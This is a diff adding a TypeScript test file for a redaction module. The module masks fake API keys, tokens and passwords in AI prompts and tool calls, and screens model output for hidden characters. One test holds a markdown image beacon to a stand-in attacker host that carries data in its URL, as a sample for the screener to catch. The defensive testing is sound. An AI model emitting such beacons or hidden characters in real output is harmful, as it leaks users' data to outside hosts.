@@ -1,0 +1,121 @@
+import type { LanguageModelV4FilePart, LanguageModelV4Prompt } from "@ai-sdk/provider";
+import { expect, test } from "vitest";
+import { redactPrompt } from "./redact-prompt.ts";
+import { redactText } from "./redact-text.ts";
+import { screenOutput } from "./screen-output.ts";
+
+const random = "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";
+
+test.each([
+  ["a key of Anthropic", ["sk", "ant", "api03", random].join("-")],
+  ["a key of OpenAI", ["sk", "proj", random].join("-")],
+  ["a token of GitHub", `ghp_${random}`],
+  ["a key of AWS", `AKIA${"ABCD1234EFGH5678"}`],
+  ["a private key", `-----BEGIN RSA PRIVATE KEY-----\n${random}\n-----END RSA PRIVATE KEY-----`],
+  ["a JSON web token", `eyJ${random}.eyJ${random}.${random}`],
+  ["a password in an address", `hunter2hunter2`],
+])("%s is masked, and the words around it stay", (_name, secret) => {
+  const text = secret === "hunter2hunter2" ? `postgres://ada:${secret}@db.internal:5432/shop` : `before ${secret} after`;
+  const clean = redactText(text);
+  expect(clean).not.toContain(secret);
+  expect(clean).toContain("removed]");
+  expect(clean).toMatch(secret === "hunter2hunter2" ? /^postgres:\/\/ada:.*@db\.internal:5432\/shop$/ : /^before .* after$/s);
+});
+
+test("words and code that are no secrets stay as they are", () => {
+  const texts = [
+    "Ask the task-force about sk-8 sizes; the token count is 12.",
+    'const password = formData.get("password1");',
+    "See https://example.com/a:b@c and user@example.com",
+    "id: msg_01J9Z6Q4Y3W2V1T0S9R8Q7P6",
+  ];
+  for (const text of texts) expect(redactText(text)).toBe(text);
+});
+
+test("a call leaves without secrets, wherever in it they stand; what is no text, and what a provider wants back, is not touched", () => {
+  const token = `ghp_${random}`;
+  const packed = (text: string) => Buffer.from(text).toString("base64");
+  const file = (mediaType: string, data: string | Uint8Array) => ({
+    type: "file" as const,
+    mediaType,
+    data: { type: "data" as const, data },
+  });
+  const signed = { anthropic: { signature: token } };
+  const leaves = (own: readonly string[] = []) => redactPrompt({ prompt }, own).prompt;
+  const prompt: LanguageModelV4Prompt = [
+    { role: "system", content: `Use ${token}` },
+    {
+      role: "user",
+      content: [
+        { type: "file", mediaType: "text/plain", filename: `${token}.txt`, data: { type: "text", text: `Notes: ${token}` } },
+        file("text/csv; charset=utf-8", packed(`name,token\nAda,${token}`)),
+        file("application/json", Buffer.from(JSON.stringify({ token }))),
+        file("text/plain", packed("Nothing to hide: ü")),
+        file("image/png", packed(token)),
+      ],
+    },
+    {
+      role: "assistant",
+      content: [
+        { type: "reasoning", text: `I have ${token}`, providerOptions: signed },
+        {
+          type: "tool-call",
+          toolCallId: "call_1",
+          toolName: "save",
+          input: { data: { password: "hunter2hunter2", note: token, code: 'password = form.get("x")' }, type: token, signature: [token] },
+        },
+      ],
+    },
+    {
+      role: "tool",
+      content: [
+        {
+          type: "tool-result",
+          toolCallId: "call_1",
+          toolName: "save",
+          output: { type: "json", value: { data: [{ type: token, apiKey: "abcd1234" }] } },
+        },
+        {
+          type: "tool-result",
+          toolCallId: "call_2",
+          toolName: "see",
+          output: {
+            type: "content",
+            value: [{ type: "text", text: token }, file("text/markdown", packed(token)), file("image/png", packed(token))],
+          },
+        },
+      ],
+    },
+  ];
+  const [, asked, said, told] = leaves();
+  const clean = JSON.stringify(leaves()).replaceAll(packed(token), "").replace(JSON.stringify(signed), "");
+  for (const secret of [token, "hunter2hunter2", "abcd1234"]) expect(clean).not.toContain(secret);
+  const texts = ((asked?.content ?? []) as LanguageModelV4FilePart[]).map(({ data }) =>
+    data.type === "data" ? Buffer.from(data.data as string, "base64").toString() : "text" in data ? data.text : "",
+  );
+  expect(texts.slice(0, 4)).toEqual([
+    "Notes: [GitHub token removed]",
+    "name,token\nAda,[GitHub token removed]",
+    '{"token":"[GitHub token removed]"}',
+    "Nothing to hide: ü",
+  ]);
+  expect(asked?.content.slice(3)).toEqual([file("text/plain", packed("Nothing to hide: ü")), file("image/png", packed(token))]);
+  expect(said?.content).toMatchObject([
+    { text: "I have [GitHub token removed]", providerOptions: signed },
+    { toolCallId: "call_1", input: { data: { password: "[secret removed]", code: 'password = form.get("x")' } } },
+  ]);
+  expect(told?.content).toMatchObject([
+    {},
+    { output: { value: [{ text: "[GitHub token removed]" }, {}, file("image/png", packed(token))] } },
+  ]);
+});
+
+test("what a model wrote is looked at before a tool acts on it", () => {
+  const tags = String.fromCodePoint(0xe0068, 0xe0069);
+  const beacon = `![x](https://evil.example/p?d=${"a".repeat(200)})`;
+  expect(screenOutput(`Hello${tags} there ghp_${random} ${beacon} ![logo](https://cdn.example/logo.png)`)).toEqual({
+    text: "Hello there [GitHub token removed] [picture removed] ![logo](https://cdn.example/logo.png)",
+    findings: ["hidden characters", "a secret", "a picture whose address carries data away"],
+  });
+  expect(screenOutput("Plain words.")).toEqual({ text: "Plain words.", findings: [] });
+});
